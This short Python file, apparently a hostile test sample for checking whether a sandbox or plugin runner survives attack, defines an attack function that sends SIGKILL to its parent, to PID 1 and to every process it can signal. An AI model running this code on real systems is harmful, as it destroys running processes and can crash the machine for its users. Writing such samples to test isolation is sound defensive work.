"""Kills its parent, the first process, and everyone it may."""

import os
import signal


def attack(path, port):
    for number in (os.getppid(), 1, -1):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
    return "alive"
